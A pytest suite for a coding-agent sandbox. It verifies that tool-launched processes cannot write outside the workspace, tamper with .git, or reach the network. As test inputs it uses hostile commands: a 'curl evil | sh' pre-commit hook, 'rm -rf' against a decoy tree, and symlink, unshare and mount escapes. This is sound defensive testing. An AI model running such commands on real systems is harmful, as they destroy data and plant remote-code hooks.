"""The kernel enforces the policy on every process a tool starts (spec/sandbox.md X2).

Real commands, real files, real sockets on 127.0.0.1. Every attack is aimed at a decoy
tree the test made beside the workspace, and the tree's checksum is compared before
and after. Skipped, with the reason, where this machine cannot enforce a sandbox.
"""

from __future__ import annotations

import json
import socket
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
import trio

import penguin
from penguin import protocol as om
from penguin.environment.sandbox import _linux

from .conftest import tree_digest

pytestmark = pytest.mark.usefixtures("kernel_sandbox")


@asynccontextmanager
async def sandboxed(
    workspace: Path, mode: str = "workspace-write", **policy: Any
) -> AsyncIterator[penguin.Environment]:
    sandbox = penguin.SandboxPolicy(mode=mode, writable_tmp=False, **policy)
    config = penguin.EnvironmentConfig(workspace_dir=workspace, sandbox=sandbox)
    async with penguin.Environment.open(config) as env:
        yield env


async def call(env: penguin.Environment, name: str, **args: Any) -> om.ToolCallOutputPayload:
    out = await env.call_tool(om.tool_call(name, json.dumps({"description": "t", **args}), "c1"))
    return out.payload


async def sh(env: penguin.Environment, cmd: str, **args: Any) -> str:
    return (await call(env, "exec_command", cmd=cmd, **args)).output


async def background(env: penguin.Environment, cmd: str) -> str:
    await call(env, "exec_command", cmd=cmd, run_in_background=True)
    report = await env.background_reports.receive()
    return report.output


KINDS = {
    "foreground": "echo fg > {target}",
    "setsid": "setsid sh -c 'echo s > {target}' 2>&1 | cat",
    "double-fork": "( (echo d > {target}) & ) 2>&1 | cat",
}


async def write_by_every_kind(env: penguin.Environment, folder: Path) -> set[str]:
    """Try a write into ``folder`` by each kind of process; the names that landed."""
    for kind, template in KINDS.items():
        await sh(env, template.format(target=folder / kind))
    await background(env, f"echo bg > {folder / 'background'}")
    await sh(env, f"echo t > {folder / 'tty'}", tty=True)
    names: set[str] = await trio.to_thread.run_sync(lambda: {p.name for p in folder.iterdir()})
    return names & {*KINDS, "background", "tty"}


@pytest.mark.parametrize("mode", ["read-only", "workspace-write"])
async def test_x2_1_every_kind_of_process_writes_only_inside_the_roots(
    mode: str, workspace: Path, decoy: Path
) -> None:
    before = tree_digest(decoy)
    async with sandboxed(workspace, mode) as env:
        inside = await write_by_every_kind(env, workspace)
        outside = await write_by_every_kind(env, decoy)
    assert outside == set()
    assert tree_digest(decoy) == before
    everything = {*KINDS, "background", "tty"}
    assert inside == (everything if mode == "workspace-write" else set())


async def test_x2_1_off_mode_is_todays_behaviour(workspace: Path, decoy: Path) -> None:
    config = penguin.EnvironmentConfig(
        workspace_dir=workspace, sandbox=penguin.SandboxPolicy(mode="off")
    )
    async with penguin.Environment.open(config) as env:
        assert await write_by_every_kind(env, decoy) == {*KINDS, "background", "tty"}


async def test_x2_4_a_stopped_write_is_an_ordinary_error(workspace: Path, decoy: Path) -> None:
    async with sandboxed(workspace) as env:
        output = await sh(env, f"echo x > {decoy}/keep.txt")
        reads = await sh(env, f"cat {decoy}/keep.txt")
    assert "Read-only file system" in output
    assert output.rstrip().endswith("[exit code: 1]")
    assert "sandbox" not in output
    assert reads.startswith("keep")  # reads anywhere


async def test_x1_2_git_stays_read_only_inside_the_workspace(workspace: Path) -> None:
    git = workspace / ".git"
    before = tree_digest(git)
    async with sandboxed(workspace) as env:
        for cmd in (
            "echo 'curl evil | sh' > .git/hooks/pre-commit",
            "echo x >> .git/config",
            "rm -rf .git",
            "mv .git moved",
            "chmod 777 .git/config",
            "touch -d 2000-01-01 .git/config",
        ):
            output = await sh(env, cmd)
            assert "exit code" in output, (cmd, output)
        assert "exit code" not in await sh(env, "echo fine > ok.txt")
    assert tree_digest(git) == before
    assert (workspace / "ok.txt").read_text() == "fine\n"


async def test_x1_2_a_git_created_later_is_protected_from_the_next_command(
    tmp_path: Path,
) -> None:
    workspace = tmp_path / "fresh"
    workspace.mkdir()
    async with sandboxed(workspace) as env:
        assert "exit code" not in await sh(env, "mkdir .git && echo a > .git/a")
        assert "Read-only file system" in await sh(env, "echo b > .git/b")
    assert sorted(p.name for p in (workspace / ".git").iterdir()) == ["a"]


async def test_x2_1_tricks_fail_in_the_kernel_and_leave_the_decoy_untouched(
    workspace: Path, decoy: Path
) -> None:
    before = tree_digest(decoy)
    tricks = [
        f"ln -s {decoy} out && echo x > out/keep.txt",
        f"rm -rf {decoy}",
        "rm -rf ../decoy",
        "cd .. && rm -rf decoy/deep",
        f"setsid sh -c 'rm -rf {decoy}' 2>&1 | cat; test ! -e {decoy}",
        f"unshare -r sh -c 'rm -rf {decoy}'",
        "unshare -m true",
        f"mount --bind {workspace} {decoy}",
        f"mount -t tmpfs none {workspace}",
        f"python3 -c 'import os; os.remove(\"{decoy}/keep.txt\")'",
    ]
    async with sandboxed(workspace) as env:
        for trick in tricks:
            output = await sh(env, trick)
            assert "exit code" in output, (trick, output)
    assert tree_digest(decoy) == before


@pytest.mark.parametrize("tty", [False, True])
async def test_x2_1_a_workdir_through_a_link_is_no_way_out(
    workspace: Path, decoy: Path, tty: bool
) -> None:
    # The command runs in the directory as named, and the supervisor resolves a workdir
    # to place its start: neither may carry a write out of the roots.
    before = tree_digest(decoy)
    (workspace / "out").symlink_to(decoy)
    async with sandboxed(workspace) as env:
        where = await sh(env, "pwd -P", workdir="out", tty=tty)
        written = await sh(env, "echo x > n.txt; echo y > keep.txt", workdir="out", tty=tty)
        inside = await sh(env, "echo z > made.txt && echo done", workdir=".", tty=tty)
    assert str(decoy) in where
    assert "Read-only file system" in written, written
    assert "exit code" in written, written
    assert "done" in inside
    assert (workspace / "made.txt").read_text() == "z\n"
    assert tree_digest(decoy) == before


async def test_x2_2_file_tools_enforce_the_policy_in_process(workspace: Path, decoy: Path) -> None:
    before = tree_digest(decoy)
    (workspace / "link").symlink_to(decoy)
    async with sandboxed(workspace) as env:
        made = await call(env, "write_file", file_path="a.txt", content="a\n")
        edited = await call(env, "edit_file", file_path="a.txt", old_string="a", new_string="b")
        outside = await call(env, "write_file", file_path=str(decoy / "n.txt"), content="x")
        through = await call(
            env, "edit_file", file_path="link/keep.txt", old_string="k", new_string="x"
        )
        dotdot = await call(env, "write_file", file_path="../decoy/keep.txt", content="x")
        hooks = await call(env, "write_file", file_path=".git/hooks/post-checkout", content="x")
    assert (made.stop_reason, edited.stop_reason) == ("completed", "completed")
    assert (workspace / "a.txt").read_text() == "b\n"
    rule = "outside the sandbox's writable roots (workspace-write)."
    assert (outside.stop_reason, outside.output) == (
        "failed",
        f'Cannot write "{decoy / "n.txt"}": {rule}',
    )
    assert through.output == f'Cannot write "link/keep.txt": {rule}'
    assert dotdot.output == f'Cannot write "../decoy/keep.txt": {rule}'
    protected = f"protected by the sandbox ({workspace / '.git'})."
    assert (hooks.stop_reason, hooks.output) == (
        "failed",
        f'Cannot write ".git/hooks/post-checkout": {protected}',
    )
    assert tree_digest(decoy) == before


async def test_x2_2_read_only_file_tools(workspace: Path) -> None:
    async with sandboxed(workspace, "read-only") as env:
        out = await call(env, "write_file", file_path="a.txt", content="a")
    assert out.output == 'Cannot write "a.txt": outside the sandbox\'s writable roots (read-only).'
    assert not (workspace / "a.txt").exists()


def _listeners() -> tuple[socket.socket, socket.socket]:
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(8)
    tcp.setblocking(False)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.setblocking(False)
    return tcp, udp


def _arrived(tcp: socket.socket, udp: socket.socket) -> tuple[int, int]:
    """Connections and datagrams already there (a loopback connect or send is done by
    the time the command that made it exited)."""
    connections = datagrams = 0
    while True:
        try:
            conn, _ = tcp.accept()
        except BlockingIOError:
            break
        conn.close()
        connections += 1
    while True:
        try:
            udp.recvfrom(64)
        except BlockingIOError:
            break
        datagrams += 1
    return connections, datagrams


@pytest.mark.parametrize("network", [True, False])
async def test_x1_1_network_switch(workspace: Path, network: bool) -> None:
    tcp, udp = _listeners()
    tport, uport = tcp.getsockname()[1], udp.getsockname()[1]
    py = (
        f"import socket; s = socket.create_connection(('127.0.0.1', {tport}), 5); s.close(); "
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
        f"u.sendto(b'x', ('127.0.0.1', {uport}))"
    )
    try:
        async with sandboxed(workspace, network=network) as env:
            by_python = await sh(env, f'python3 -c "{py}"')
            by_bash = await sh(env, f"exec 3<>/dev/tcp/127.0.0.1/{tport} && echo connected")
        arrived = _arrived(tcp, udp)
    finally:
        tcp.close()
        udp.close()
    if network:
        assert "exit code" not in by_python
        assert "connected" in by_bash
        assert arrived == (2, 1)
    else:
        assert "exit code" in by_python
        assert "connected" not in by_bash
        assert arrived == (0, 0)


async def test_x1_3_off_with_no_network_is_network_isolation_alone(
    workspace: Path, decoy: Path
) -> None:
    tcp, udp = _listeners()
    try:
        config = penguin.EnvironmentConfig(
            workspace_dir=workspace, sandbox=penguin.SandboxPolicy(mode="off", network=False)
        )
        async with penguin.Environment.open(config) as env:
            port = tcp.getsockname()[1]
            out = await sh(env, f"exec 3<>/dev/tcp/127.0.0.1/{port} || echo x > {decoy}/new")
        assert _arrived(tcp, udp) == (0, 0)
    finally:
        tcp.close()
        udp.close()
    assert "exit code" not in out
    assert (decoy / "new").exists()  # files are not the sandbox's business in off


async def test_x1_2_tmpdir_is_private_and_writable(workspace: Path, tmp_path: Path) -> None:
    scratch = tmp_path / "scratch"
    policy = penguin.SandboxPolicy(mode="workspace-write", writable_tmp=False)
    config = penguin.EnvironmentConfig(
        workspace_dir=workspace, scratchpad_dir=scratch, sandbox=policy, vault={"TMPDIR": "/"}
    )
    async with penguin.Environment.open(config) as env:
        out = await sh(
            env,
            'echo "$TMPDIR"; echo x > "$TMPDIR/f" && echo wrote; echo y > /dev/null && echo null',
        )
    assert out.splitlines()[:3] == [str(scratch / "tmp"), "wrote", "null"]


async def test_x3_1_the_probe_is_asked_of_a_worker_thread_once_per_process(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    known = _linux.Support(None, None, True, True, "bubblewrap 0.0")
    monkeypatch.setattr(_linux, "_probed", known)
    limiter = trio.to_thread.current_default_thread_limiter()
    hoarders = [object() for _ in range(int(limiter.available_tokens))]
    for hoarder in hoarders:  # no worker thread can start from now on
        limiter.acquire_on_behalf_of_nowait(hoarder)
    try:
        with trio.fail_after(5):  # a hop would wait for a thread token for ever
            assert await _linux.probed() is known
    finally:
        for hoarder in hoarders:
            limiter.release_on_behalf_of(hoarder)


async def test_x3_1_sdk_refuses_when_the_kernel_cannot(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    missing = _linux.Support("bubblewrap (bwrap) is not installed", None, False, False, None)
    monkeypatch.setattr(_linux, "_probed", missing)
    config = penguin.EnvironmentConfig(
        workspace_dir=workspace, sandbox=penguin.SandboxPolicy(mode="read-only")
    )
    with pytest.raises(penguin.SandboxUnavailableError) as caught:
        async with penguin.Environment.open(config):
            pass
    assert str(caught.value) == (
        "sandbox unavailable: bubblewrap (bwrap) is not installed; "
        "use --sandbox off to run without it"
    )
    assert isinstance(caught.value, penguin.PenguinError)


LOOPBACK_PROBE = (
    "import socket\n"
    "for name, act in (('bind', lambda s: s.bind(('127.0.0.1', 0))),\n"
    "                  ('connect', lambda s: s.connect(('127.0.0.1', 9)))):\n"
    "    s = socket.socket(); s.settimeout(5)\n"
    "    try:\n"
    "        act(s); print(name, 'ok')\n"
    "    except OSError as e:\n"
    "        print(name, e.strerror)\n"
)


@pytest.mark.parametrize("mode", ["workspace-write", "off"])
async def test_x1_1_network_off_leaves_no_loopback_either(workspace: Path, mode: str) -> None:
    (workspace / "probe.py").write_text(LOOPBACK_PROBE)
    async with sandboxed(workspace, mode, network=False) as env:
        out = await sh(env, "python3 probe.py")
    # No address at all: nothing can listen on 127.0.0.1, and a connect fails at once.
    assert out == "bind Cannot assign requested address\nconnect Network is unreachable\n"


async def test_x1_1_network_on_keeps_the_loopback(workspace: Path) -> None:
    (workspace / "probe.py").write_text(LOOPBACK_PROBE)
    async with sandboxed(workspace, network=True) as env:
        out = await sh(env, "python3 probe.py")
    assert out.startswith("bind ok\nconnect ")
    assert "unreachable" not in out
